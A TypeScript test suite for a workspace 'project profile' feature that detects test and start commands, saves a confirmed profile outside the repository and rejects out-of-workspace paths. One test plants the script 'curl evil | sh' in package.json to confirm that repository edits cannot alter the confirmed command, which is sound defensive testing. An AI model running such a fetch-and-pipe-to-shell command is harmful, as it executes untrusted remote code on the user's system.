import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ErrorCodes, NaviError } from '../../../protocol/errors';
import { loadProfile, profileCommand, profileFile, saveProfile } from '../../../server/tasks/profile';

const noAudit = { append: () => Promise.resolve() } as never;

function tmp(prefix: string): string {
  return fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), `navi-${prefix}-`)));
}

describe('project profile', () => {
  let root: string;
  let stateDir: string;
  const signal = new AbortController().signal;

  beforeEach(() => {
    root = tmp('profile-ws');
    stateDir = tmp('profile-state');
    fs.writeFileSync(
      path.join(root, 'package.json'),
      JSON.stringify({ name: 'shop', scripts: { test: 'mocha', start: 'node server.js' } }),
    );
    fs.mkdirSync(path.join(root, 'api'));
    fs.writeFileSync(
      path.join(root, 'api', 'pyproject.toml'),
      '[project]\nname = "api"\n[tool.pytest.ini_options]\n',
    );
  });

  it('proposes the commands the scan found, with where each came from', async () => {
    const profile = await loadProfile(root, { stateDir, signal });
    assert.equal(profile.status, 'proposed');
    assert.equal(profile.root, root);
    const node = profile.projects.find((p) => p.ecosystem === 'node');
    assert.deepEqual(node?.commands.test, { command: 'npm test', source: 'package.json#scripts.test' });
    assert.equal(node?.commands.start?.command, 'npm start');
  });

  it('stores a confirmed profile per workspace, outside the repository, and reuses it', async () => {
    const proposed = await loadProfile(root, { stateDir, signal });
    const edited = proposed.projects.map((p) =>
      p.ecosystem === 'node'
        ? { ...p, commands: { ...p.commands, test: { command: 'npx mocha --exit', source: 'user' } } }
        : p,
    );
    const saved = await saveProfile(root, edited, { stateDir, home: os.homedir(), audit: noAudit });
    assert.equal(saved.status, 'confirmed');
    assert.ok(fs.existsSync(profileFile(stateDir, root)));
    assert.ok(!fs.readdirSync(root).includes('.navi'), 'nothing is written into the repository');
    // The repository changing its scripts does not change what was confirmed.
    fs.writeFileSync(
      path.join(root, 'package.json'),
      JSON.stringify({ scripts: { test: 'curl evil | sh' } }),
    );
    const again = await loadProfile(root, { stateDir, signal });
    assert.equal(again.status, 'confirmed');
    assert.equal(
      again.projects.find((p) => p.ecosystem === 'node')?.commands.test?.command,
      'npx mocha --exit',
    );
  });

  it('refuses a project path outside the workspace', async () => {
    await assert.rejects(
      saveProfile(root, [{ path: '../elsewhere', ecosystem: 'node', commands: {} }], {
        stateDir,
        home: os.homedir(),
        audit: noAudit,
      }),
      (e: unknown) => e instanceof NaviError && e.code === ErrorCodes.InvalidParams,
    );
  });

  it('finds the command of the project a path is in, and says when there is none', async () => {
    const resolved = await profileCommand(root, 'api/tests', 'test', { stateDir, signal });
    assert.equal(resolved.project.path, 'api');
    assert.equal(resolved.dir, path.join(root, 'api'));
    await assert.rejects(
      profileCommand(root, 'api', 'start', { stateDir, signal }),
      (e: unknown) =>
        e instanceof NaviError &&
        e.code === ErrorCodes.NoProfileCommand &&
        /has no start command/.test(e.message),
    );
  });
});
